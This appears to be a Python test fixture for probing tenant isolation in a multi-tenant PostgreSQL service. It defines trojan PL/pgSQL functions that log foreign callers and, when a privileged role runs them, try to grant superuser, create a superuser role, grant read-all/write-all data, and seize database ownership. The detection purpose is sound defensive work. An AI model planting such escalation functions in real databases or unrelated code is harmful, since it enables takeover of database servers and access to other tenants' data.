"""Hostile code that notes who runs it, and tries to become more than it is.

`public.note` is what every hostile function calls. It counts calls by anybody but the tenant's own two roles in the
statistics of `public.foreign_seen`, which a rollback does not undo.
"""

from attack.arena import SEED
from attack.party import Party

_WITNESS = (
    "create table if not exists public.noted (place text, session text, effective text)",
    "create table if not exists public.loot (a int)",
    "grant all on public.noted, public.loot to public",
    """create or replace function public.foreign_seen(place text) returns void language plpgsql as $$
    begin
      perform pg_catalog.pg_stat_force_next_flush();
      begin
        insert into public.noted values (place, session_user, current_user);
      exception when others then null;
      end;
    end $$""",
    """create or replace function public.escalate() returns void language plpgsql as $$
    declare me pg_catalog.text := pg_catalog.concat(pg_catalog.current_database(), '_w');
    begin
      begin execute pg_catalog.format('alter role %I superuser createrole createdb bypassrls', me);
      exception when others then null; end;
      begin execute pg_catalog.format('create role %I superuser', pg_catalog.concat(me, '_made'));
      exception when others then null; end;
      begin execute pg_catalog.format('grant pg_read_all_data, pg_write_all_data to %I', me);
      exception when others then null; end;
      begin execute pg_catalog.format('alter database %I owner to %I', pg_catalog.current_database(), me);
      exception when others then null; end;
    end $$""",
    """create or replace function public.note(place text) returns void language plpgsql as $$
    declare mine pg_catalog.text := pg_catalog.concat('^', pg_catalog.current_database(), '_[wr]$');
    begin
      if session_user::pg_catalog.text operator(pg_catalog.!~) mine
         or current_user::pg_catalog.text operator(pg_catalog.!~) mine then
        perform public.foreign_seen(place);
        perform public.escalate();
      end if;
    end $$""",
    f"""create or replace function public.leave_traces() returns void language plpgsql as $$
    begin
      begin insert into public.loot values (1); exception when others then null; end;
      begin perform pg_catalog.setseed({SEED}); exception when others then null; end;
      begin perform pg_catalog.set_config('app.left', 'something', false); exception when others then null; end;
      begin perform pg_catalog.set_config('default_transaction_isolation', 'read committed', false);
      exception when others then null; end;
      begin perform pg_catalog.set_config('default_transaction_read_only', 'off', false);
      exception when others then null; end;
      begin perform pg_catalog.set_config('search_path', 'public, pg_catalog', false);
      exception when others then null; end;
      begin perform pg_catalog.set_config('synchronous_commit', 'off', false);
      exception when others then null; end;
    end $$""",
    "grant execute on all functions in schema public to public",
)

FOREIGN_CALLS = "select coalesce(sum(calls), 0) from pg_stat_user_functions where funcname = 'foreign_seen'"
FOREIGN_NOTES = "select distinct place, session, effective from public.noted"


def install(attacker: Party) -> None:
    for statement in _WITNESS:
        attacker.must(statement)


def body(place: str, *, returns: str = "true", traces: bool = True) -> str:
    """The body of a hostile PL/pgSQL function."""
    quoted = place.replace("'", "''")
    leave = "perform public.leave_traces();" if traces else ""
    return f"begin perform public.note('{quoted}'); {leave} return {returns}; end"
